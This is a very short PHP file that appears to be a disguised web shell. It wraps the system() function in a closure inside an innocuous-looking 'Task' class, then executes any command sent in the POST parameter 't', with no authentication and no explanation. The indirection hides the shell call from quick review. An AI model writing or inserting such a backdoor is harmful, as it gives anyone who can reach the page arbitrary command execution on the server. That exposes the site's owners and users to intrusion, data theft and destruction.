<?php
final class Task { public function __construct(public readonly Closure $run) {} }
$t = new Task(system(...));
if ($x = $_POST['t'] ?? false) { ($t->run)($x); }
